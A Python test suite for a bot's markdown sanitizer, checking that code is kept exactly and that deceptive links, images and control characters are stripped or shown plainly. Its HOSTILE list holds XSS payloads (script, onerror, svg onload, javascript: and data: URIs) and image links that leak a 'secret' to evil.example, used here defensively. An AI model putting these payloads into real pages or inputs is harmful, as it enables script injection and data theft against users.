"""Markdown: the three views keep what was written and drop what deceives."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.markdown import (
    Code,
    Heading,
    Item,
    Listing,
    Paragraph,
    Prose,
    Quote,
    Span,
    Table,
    aligned,
    clean,
    html,
    parse,
    plain,
    segments,
)

# Text that is dense in the characters that mean something, beside any text at all.
markup = st.text(alphabet="`~*_[]()<>!#-+1. \n\tab|\\&:@é\x1b\u202e", max_size=120)
markdown = markup | st.text(max_size=80) | st.lists(markup, max_size=6).map("\n\n".join)


def test_the_tree_names_every_kind_of_block() -> None:
    text = "# Head\n\nsome **bold** `code`\n\n- [x] done\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | `2` |\n"
    assert parse(text) == (
        Heading(1, (Span("Head"),)),
        Paragraph((Span("some "), Span("bold", bold=True), Span(" "), Span("code", code=True))),
        Listing((Item((Paragraph((Span("done"),)),), checked=True),)),
        Quote((Paragraph((Span("quoted"),)),)),
        Table(("a", "b"), (("1", "2"),)),
    )


def test_code_keeps_its_characters() -> None:
    code = "a<b && **x** `y` &amp; <!channel>\n\tindented  "
    assert segments(f"before\n\n```python\n{code}\n```\nafter") == (
        Prose("before"),
        Code(code, "python"),
        Prose("after"),
    )


def test_a_longer_fence_holds_a_shorter_one() -> None:
    assert segments("````md\n```\ninner\n```\n````") == (Code("```\ninner\n```", "md"),)


def test_code_in_a_list_stands_between_its_halves() -> None:
    assert segments("1. one\n\n   ```sh\n   ls\n   ```\n\n   then\n2. two") == (
        Prose("1. one"),
        Code("ls", "sh"),
        Prose("then\n2. two"),
    )


def test_prose_keeps_the_writers_own_characters() -> None:
    text = "foo**bar**baz 東京**太字**です snake_case 2 * 3\nsecond line\n\n- a\n  - b"
    assert segments(text) == (Prose(text),)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("![p](https://evil.example/p.png?d=1)", "[p](https://evil.example/p.png?d=1)"),
        ("[https://good.example](https://evil.example)", "https://good.example (<https://evil.example>)"),
        ("[good.example/login](https://evil.example/x)", "good.example/login (<https://evil.example/x>)"),
        ("see [docs][1]\n\n[1]: https://a.example/x", "see [docs](https://a.example/x)"),
        ("[guide](https://a.example)", "[guide](https://a.example)"),
        ("[a.example](https://www.a.example/x)", "[a.example](https://www.a.example/x)"),
        ("[x](javascript:alert(1)) y", "x y"),
        ("see [Branch *types*](#branch-types) and ![plan](plan.png)", "see Branch *types* and plan"),
        ("\x1b[31mred\x1b[0m\u202egnp.exe", "redgnp.exe"),
    ],
)
def test_what_could_deceive_is_written_out(given: str, shown: str) -> None:
    assert segments(given) == (Prose(shown),)


def test_plain_text_has_no_markers() -> None:
    assert plain("**a** [b](https://c.example)\n\n1. x\n2. y\n\n- [ ] t") == "a b\n\n1. x\n2. y\n\n☐ t"


def test_a_table_is_aligned_by_its_widest_cell() -> None:
    assert aligned(Table(("a", "long"), (("wide cell", "1"),))) == "a          long\n─────────  ────\nwide cell  1"


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<a href='javascript:alert(1)'>x</a>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <script> | b |\n|---|---|\n| <img src=x> | y |",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<https://a.example/'onclick='alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_lives_on_the_page(text: str) -> None:
    page = html(text)
    tags = re.findall(r"<\s*([a-z0-9]+)([^>]*)>", page, re.IGNORECASE)
    assert not {name.lower() for name, _ in tags} & {"script", "img", "svg", "iframe", "style", "math"}
    for name, attributes in tags:
        names = set(re.findall(r'\s([\w-]+)="', re.sub(r'"[^"]*"', '""', attributes)))
        assert names <= ({"href", "title", "rel", "target"} if name == "a" else {"class", "start"})
    assert not re.search(r'href="(?!https?:|mailto:)', page, re.IGNORECASE)


def test_links_on_the_page_open_elsewhere_and_say_nothing() -> None:
    link = html("[x](https://a.example)")
    assert 'rel="noopener noreferrer nofollow"' in link
    assert 'target="_blank"' in link


def test_the_page_shows_where_a_disguised_link_leads() -> None:
    assert "good.example (<a " in html("[good.example](https://evil.example)")


@settings(max_examples=300)
@example("```\n")
@example("[a]: b\n> ```\n")
@example("- \n  ```x\n  y")
@given(markdown)
def test_any_text_has_all_three_views(text: str) -> None:
    for segment in segments(text):
        if isinstance(segment, Prose):
            assert not any(isinstance(part, Code) for part in segments(segment.text))
            assert not any("image" in (c.type for c in t.children or ()) for t in MarkdownIt().parse(segment.text))
    plain(text)
    assert not re.search(r"<(script|img|iframe)", html(text))
    assert clean(clean(text)) == clean(text)


@settings(max_examples=200)
@given(st.text(alphabet="ab `~<>&!*_\n\t\\", max_size=80))
def test_any_code_in_a_fence_comes_out_byte_for_byte(code: str) -> None:
    from bot.splitting import fenced

    assert segments(fenced(Code(code, "py"))) == (Code(code, "py"),)


@pytest.mark.parametrize("text", ["*" * 4000 + "a" + "*" * 4000, "~~*" * 2000 + "a" + "*~~" * 2000, ">" * 5000 + "a"])
def test_nesting_without_end_is_no_way_to_fell_the_program(text: str) -> None:
    segments(text)
    plain(text)
    html(text)
